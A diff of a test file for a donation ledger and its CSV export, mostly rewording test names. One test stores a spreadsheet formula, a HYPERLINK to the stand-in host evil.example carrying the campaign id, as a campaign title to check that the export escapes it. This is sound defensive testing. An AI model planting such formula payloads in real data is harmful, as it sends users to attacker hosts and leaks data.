@@ -9,7 +9,7 @@ const { scene, entries, rowOf, refunded, paidOut } = ledger
 const fileOf = async (filter: Filter = {}) => scene.t.as(scene.admin().token)(exportLedger, { query: filter })
 
 describe('an entry', () => {
-  test('says what it moved from where to where, for which campaign, and whose donation it was', async () => {
+  test('shows its accounts, its campaign and its donor', async () => {
     const [donation] = await entries({ q: ledger.given.donationId, kind: 'donation' })
     const { capture_id: captureId } = await rowOf(ledger.given)
     expect(donation).toMatchObject({
@@ -28,7 +28,7 @@ describe('an entry', () => {
     })
   })
 
-  test('of a refund or a payout leads to it, and to the disputes about it', async () => {
+  test('of a refund or a payout links to it, and to the disputes about it', async () => {
     const refund = await refunded()
     const body = {
       campaignId: scene.campaignId,
@@ -54,7 +54,7 @@ describe('an entry', () => {
 })
 
 describe('the file', () => {
-  test('has the entries of the same filter, a line each, with a head', async () => {
+  test('has a header and a line for each entry of the same filter', async () => {
     await refunded()
     const file = await fileOf({ q: ledger.donor.email })
     expect(file.headers['content-type']).toBe('text/csv; charset=utf-8')
@@ -68,7 +68,7 @@ describe('the file', () => {
     expect(line).toContain(`,${ledger.donor.user.name},${ledger.donor.email},`)
   })
 
-  test('makes no formula of a title that begins like one', async () => {
+  test('escapes a title that looks like a formula', async () => {
     const title = `=HYPERLINK("https://evil.example/${scene.campaignId}","Open")`
     scene.campaignId = (await scene.given.campaign(scene.owner, { title }))._id
     await scene.give(5)
